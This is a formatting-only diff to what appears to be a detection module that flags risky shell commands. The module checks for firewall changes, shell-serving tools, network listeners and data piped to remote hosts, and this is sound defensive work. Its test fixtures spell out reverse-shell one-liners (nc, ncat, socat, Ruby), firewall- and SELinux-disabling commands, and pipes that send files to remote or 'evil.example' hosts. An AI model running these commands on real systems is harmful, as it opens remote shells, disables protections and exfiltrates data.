@@ -17,31 +17,42 @@ def _changes_firewall(command: Command) -> bool:
     name = command.name
     texts = [word.text for word in command.operands]
     if name in ("iptables", "ip6tables", "ebtables", "arptables"):
-        return not command.has("-L", "--list", "-S", "--list-rules", "-C", "--check", "-V", "--version", "-h")
+        return not command.has(
+            "-L", "--list", "-S", "--list-rules", "-C", "--check", "-V", "--version", "-h"
+        )
     if name == "nft":
         return bool(texts) and texts[0] not in ("list", "describe", "monitor")
     if name == "ufw":
         return bool(texts) and texts[0] not in ("status", "version", "show", "app")
     if name == "firewall-cmd":
-        return not any(flag.startswith(("--list", "--get", "--state", "--query", "--info")) for flag in command.flags)
+        return not any(
+            flag.startswith(("--list", "--get", "--state", "--query", "--info"))
+            for flag in command.flags
+        )
     if name == "pfctl":
         return not command.has("-s", "-n") or command.has("-d", "-F")
     if name == "setenforce":
         return True
     if name in ("ip", "route"):
-        return any(text in ("add", "del", "delete", "flush", "change", "replace", "set") for text in texts)
+        return any(
+            text in ("add", "del", "delete", "flush", "change", "replace", "set") for text in texts
+        )
     if name in ("iptables-restore", "ip6tables-restore"):
         return True
     if name == "ifconfig":
         return any(text in ("down", "up") for text in texts) or len(texts) > 1
     if name == "nmcli":
-        return any(text in ("down", "delete", "off", "modify", "disconnect", "add") for text in texts)
+        return any(
+            text in ("down", "delete", "off", "modify", "disconnect", "add") for text in texts
+        )
     return name == "netsh" and any(text in ("set", "add", "delete", "reset") for text in texts)
 
 
 def _serves_shell(command: Command) -> bool:
     if command.name == "socat":
-        return any(re.search(r"\b(EXEC|SYSTEM|SHELL):", word.text, re.I) for word in command.operands)
+        return any(
+            re.search(r"\b(EXEC|SYSTEM|SHELL):", word.text, re.I) for word in command.operands
+        )
     return command.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or any(
         "exec" in flag for flag in command.flags if flag.startswith("--")
     )
@@ -51,13 +62,22 @@ def _listens(command: Command) -> bool:
     texts = [word.text for word in command.operands]
     name = command.name
     if name == "socat":
-        return any(re.search(r"\b(TCP|UDP|SCTP|OPENSSL|TCP4|TCP6|UDP4)\d?-(LISTEN|RECV)", text, re.I) for text in texts)
+        return any(
+            re.search(r"\b(TCP|UDP|SCTP|OPENSSL|TCP4|TCP6|UDP4)\d?-(LISTEN|RECV)", text, re.I)
+            for text in texts
+        )
     if name == "ssh":
         remote = [value.text for value in command.values("-R")]
         local = [value.text for value in command.values("-L", "-D")]
-        return bool(remote) or any(text.startswith(("0.0.0.0:", "*:")) for text in local) or command.has("-g")
+        return (
+            bool(remote)
+            or any(text.startswith(("0.0.0.0:", "*:")) for text in local)
+            or command.has("-g")
+        )
     if name in ("nc", "ncat", "netcat"):
-        return command.has("-l", "--listen") and not any(_LOCAL.match(t) and t != "0.0.0.0" for t in texts)
+        return command.has("-l", "--listen") and not any(
+            _LOCAL.match(t) and t != "0.0.0.0" for t in texts
+        )
     if name == "php":
         return "-S" in command.flags and any(text.startswith("0.0.0.0") for text in texts)
     return True
@@ -77,7 +97,13 @@ RULES = (
         programs="iptables ip6tables ebtables arptables nft ufw firewall-cmd pfctl setenforce ip route ifconfig "
         "nmcli netsh iptables-restore ip6tables-restore",
         when=_changes_firewall,
-        matches=("iptables -F", "sudo ufw disable", "nft flush ruleset", "ip link set eth0 down", "setenforce 0"),
+        matches=(
+            "iptables -F",
+            "sudo ufw disable",
+            "nft flush ruleset",
+            "ip link set eth0 down",
+            "setenforce 0",
+        ),
         passes=("iptables -L -n", "ufw status", "ip addr show", "nft list ruleset", "ip route"),
     ),
     Rule(
@@ -90,7 +116,7 @@ RULES = (
             "nc -e /bin/sh 10.0.0.1 4444",
             "ncat 10.0.0.1 4444 --sh-exec bash",
             "socat TCP:10.0.0.1:4444 EXEC:/bin/bash",
-            "ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",4444); exec \"/bin/sh\"'",
+            'ruby -rsocket -e \'c=TCPSocket.new("10.0.0.1",4444); exec "/bin/sh"\'',
         ),
         passes=("nc -zv localhost 5432", "nc example.com 80", "socat - TCP:localhost:80"),
     ),
@@ -110,7 +136,12 @@ RULES = (
         programs="nc ncat netcat socat ssh php ngrok cloudflared localtunnel lt bore chisel frpc frps ttyd gotty "
         "sshd telnetd dropbear vsftpd webfsd updog tailscale localhost.run serveo",
         when=lambda command: _opens(command),
-        matches=("nc -lvp 4444", "python3 -m http.server", "socat TCP-LISTEN:80,fork -", "ngrok http 3000"),
+        matches=(
+            "nc -lvp 4444",
+            "python3 -m http.server",
+            "socat TCP-LISTEN:80,fork -",
+            "ngrok http 3000",
+        ),
         passes=(
             "python3 -m http.server --bind 127.0.0.1",
             "ssh -L 8080:localhost:80 host",
@@ -123,7 +154,11 @@ RULES = (
         "It sends data of unknown content to another machine.",
         programs="nc ncat netcat socat telnet",
         when=_sends_input,
-        matches=("tar c . | nc 10.0.0.1 9000", "cat db.sqlite | nc example.com 80", "ls | ncat evil.example 1"),
+        matches=(
+            "tar c . | nc 10.0.0.1 9000",
+            "cat db.sqlite | nc example.com 80",
+            "ls | ncat evil.example 1",
+        ),
         passes=("echo stats | nc localhost 11211", "nc -zv host 80", "cat x | nc localhost 80"),
     ),
 )
